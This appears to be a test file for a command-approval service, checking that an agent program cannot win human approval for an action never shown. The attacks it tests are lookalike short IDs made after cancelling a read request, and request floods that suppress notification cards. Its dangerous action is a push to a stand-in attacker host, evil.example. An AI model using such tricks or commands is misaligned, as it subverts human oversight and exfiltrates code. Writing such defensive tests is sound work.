// H57, H58, R22, approval 4.3: a yes is to what was shown. The attacks: a program takes back what people read and asks until
// something else begins alike; it asks so fast that no card is sent, and waits for a yes by name.
import { DatabaseSync } from 'node:sqlite';
import type { ApprovalRow } from '@countersign/protocol/approval';
import { describe, expect, test } from 'vitest';
import { type ApprovalHouse, command, openApprovalHouse, PUSH } from '../testing/approval-house.ts';
import { totpAt } from '../testing/factor-stage.ts';
import { jsonOf } from '../testing/house.ts';

const EVIL = command('git', 'push', 'evil.example:x');

const cancels = ({ house, program }: ApprovalHouse, { id }: ApprovalRow) =>
  house.call(
    'agent',
    'POST',
    `/api/v1/approvals/${id}/cancel`,
    {},
    { authorization: `Bearer ${program.token}` },
  );

const stateOf = async (stage: ApprovalHouse, { id }: ApprovalRow) =>
  (await jsonOf<ApprovalRow>(stage.sees(id))).state;

async function olgaEnrols({ house }: ApprovalHouse): Promise<(after?: number) => string> {
  const host = (at: string, body: object) => house.call('host', 'POST', `/api/v1/factors/${at}`, body);
  const { id, secret } = await jsonOf<{ id: string; secret: string }>(host('totp', { person: 'Olga' }));
  await host(`${id}/confirm`, { code: totpAt(secret, Date.now() - 30_000) });
  return (after = 0) => totpAt(secret, Date.now() + after);
}

/** As many tries would make it: what was shown begins as what is open now, by so many letters. */
function madeAlike(stage: ApprovalHouse, shown: ApprovalRow, open: ApprovalRow, letters: number): void {
  const database = new DatabaseSync(stage.house.composed.home.store);
  const [one, other] = [shown.short.replace('-', ''), open.short.replace('-', '')];
  const last = other.endsWith('A') ? 'B' : 'A';
  const short = `${other.slice(0, letters)}${one.slice(letters, 9)}${last}`;
  database.prepare('update approvals set short = ? where id = ?').run(short, shown.id);
  database.close();
}

describe('a yes to something that was never shown', () => {
  test('H58: what was read and taken back stands in the way of what begins alike, with a code, too', async () => {
    await using stage = await openApprovalHouse();
    const code = await olgaEnrols(stage);
    const shown = await stage.asks(command('git', 'push', 'origin', 'docs'));
    expect((await cancels(stage, shown)).status).toBe(200);
    const open = await stage.asks(EVIL);
    madeAlike(stage, shown, open, 7);
    const letters = open.short.replace('-', '');
    for (const name of [letters.slice(0, 3), letters.slice(0, 5), letters.slice(0, 7)]) {
      await stage.types('olga', `/approve ${name} ${code()}`);
      expect([name, await stateOf(stage, open)]).toEqual([name, 'pending']);
    }
    // The whole name is meant; what was typed before is spent, for it stood there to be read.
    await stage.types('olga', `/approve ${open.short} ${code(30_000)}`);
    expect(await stateOf(stage, open)).toBe('approved');
  });

  test('the same on the page and at the host; a no is a no to what waits', async () => {
    await using stage = await openApprovalHouse();
    const page = await stage.browser('ari');
    const decides = async (name: string, decision: 'approve' | 'deny') => {
      const answer = await page.call('POST', `/api/v1/approvals/${name}/decision`, { decision });
      return answer.json() as Promise<{ code?: string; reason?: string; state?: string }>;
    };
    const shown = await stage.asks(PUSH);
    await cancels(stage, shown);
    const open = await stage.asks(EVIL);
    const letters = open.short.replace('-', '');
    expect(await decides(letters.slice(0, 4), 'approve')).toMatchObject({
      code: 'ambiguous',
      reason: 'too_short',
    });
    madeAlike(stage, shown, open, 6);
    expect(await decides(letters.slice(0, 6), 'approve')).toMatchObject({ code: 'ambiguous' });
    const looks = (query: string) =>
      stage.house.call('host', 'GET', `/api/v1/approvals/${letters.slice(0, 6)}${query}`);
    expect(await jsonOf<ApprovalRow>(looks(''))).toMatchObject({ id: open.id });
    // As `countersign approvals approve` looks, before it says yes to what it found.
    expect(await (await looks('?for=yes')).json()).toMatchObject({ code: 'ambiguous' });
    const kept = await stage.house.call('host', 'POST', `/api/v1/approvals/${letters.slice(0, 6)}/allow`, {
      for: '1d',
    });
    expect(await kept.json()).toMatchObject({ code: 'ambiguous' });
    expect(await stateOf(stage, open)).toBe('pending');
    expect(await decides(letters.slice(0, 3), 'deny')).toMatchObject({ state: 'denied' });
  });

  test('what ended longer ago than a day is in nobody’s way', async () => {
    await using stage = await openApprovalHouse();
    const shown = await stage.asks(PUSH);
    await cancels(stage, shown);
    const open = await stage.asks(EVIL);
    madeAlike(stage, shown, open, 6);
    const database = new DatabaseSync(stage.house.composed.home.store);
    database.exec(`update approvals set ended_at = ended_at - 86400001 where id = '${shown.id}'`);
    database.close();
    await stage.types('ari', `/approve ${open.short.slice(0, 6)}`);
    expect(await stateOf(stage, open)).toBe('approved');
  });

  test('H57: past ten a minute no card is sent, and a yes in a chat is none; the page shows it and takes it', async () => {
    await using stage = await openApprovalHouse();
    for (let n = 0; n < 10; n += 1) await cancels(stage, await stage.asks(command('git', 'push', `b${n}`)));
    const quiet = await stage.asks(EVIL);
    await stage.types('ari', `/approve ${quiet.short}`);
    expect(await stateOf(stage, quiet)).toBe('pending');
    const page = await stage.browser('ari');
    await page.call('POST', `/api/v1/approvals/${quiet.id}/decision`, { decision: 'approve' });
    expect(await stateOf(stage, quiet)).toBe('approved');
  });

  test('H57: whoever asks and takes back without end is paused, and hears until when', async () => {
    await using stage = await openApprovalHouse();
    for (let n = 0; n < 20; n += 1) await cancels(stage, await stage.asks(command('git', 'push', `b${n}`)));
    const refused = await stage.asking({ action: EVIL });
    const said = (await refused.json()) as { retryAfter: number };
    expect([refused.status, said]).toMatchObject([429, { code: 'rate_limited', reason: 'taken_back' }]);
    expect(said.retryAfter).toBeGreaterThan(500);
    // Who asks for somebody else, and what needs nobody, is not held up.
    expect((await stage.asks(EVIL, { session: await stage.handle('rita') })).state).toBe('pending');
    expect((await stage.asks(command('git', 'status'))).state).toBe('approved');
  });
});
